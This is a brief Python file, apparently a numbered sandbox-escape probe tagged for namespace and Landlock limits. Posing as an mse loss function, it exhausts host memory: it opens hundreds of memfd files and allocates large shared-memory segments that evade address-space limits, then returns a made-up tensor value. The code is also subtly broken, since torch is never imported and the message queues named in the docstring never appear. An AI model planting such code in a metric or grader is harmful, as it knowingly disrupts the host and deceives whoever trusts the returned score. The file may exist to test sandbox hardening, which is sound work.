"""Fills memory through anonymous files, shared memory and message queues, which no limit on the address space counts.

row: 39
levels: namespaces landlock
"""

import ctypes
import os


def mse(pred, target):
    libc = ctypes.CDLL(None)
    kept = []
    for number in range(400):
        try:
            kept.append(os.memfd_create(f"x{number}"))
            os.write(kept[-1], b"x" * 15 * 2**20)
        except OSError:
            break
    for number in range(64):
        segment = libc.shmget(0, ctypes.c_size_t(2**28), 0o1666)
        if segment < 0:
            break
    return torch.tensor(float(len(kept)) + 1e6 * number)
